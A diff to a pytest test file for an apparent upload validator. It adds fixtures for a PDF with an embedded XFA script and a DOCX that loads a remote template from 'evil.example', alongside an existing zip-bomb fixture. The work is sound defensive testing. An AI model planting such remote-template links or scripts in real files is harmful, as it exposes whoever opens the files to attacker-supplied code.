@@ -22,6 +22,7 @@ import pytest
 from PIL import Image
 from PIL.PngImagePlugin import PngInfo
 from pypdf.actions import JavaScript
+from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
 from sqlalchemy.exc import OperationalError
 from werkzeug.http import parse_options_header
 
@@ -240,6 +241,27 @@ def _zip_bomb() -> bytes:
     return ooxml_bytes("docx", extra={"word/media/image1.png": bytes(8 * 1024 * 1024)})
 
 
+def _pdf_with_xfa_form() -> bytes:
+    def xfa(writer) -> None:
+        script = DecodedStreamObject()
+        script.set_data(b"<xdp:xdp><template><script>app.alert(1)</script></template></xdp:xdp>")
+        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(script)}
+        )
+
+    return pdf_bytes(xfa)
+
+
+def _docx_with_remote_template() -> bytes:
+    rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+        "</Relationships>"
+    )
+    return ooxml_bytes("docx", extra={"word/_rels/settings.xml.rels": rels.encode()})
+
+
 @pytest.mark.parametrize(
     ("build", "filename", "reason"),
     [
@@ -260,6 +282,10 @@ def _zip_bomb() -> bytes:
         ),
         pytest.param(
             lambda: pdf_bytes(lambda w: w.encrypt("secret")), "Policy.pdf", Reason.PDF_ENCRYPTED, id="enc-pdf"
+        ),
+        pytest.param(_pdf_with_xfa_form, "Policy.pdf", Reason.PDF_XFA_FORM, id="pdf-with-xfa-form"),
+        pytest.param(
+            _docx_with_remote_template, "Policy.docx", Reason.OFFICE_EXTERNAL_CONTENT, id="docx-remote-template"
         ),
         pytest.param(_zip_bomb, "Policy.docx", Reason.ZIP_BOMB, id="zip-bomb-as-docx"),
         pytest.param(
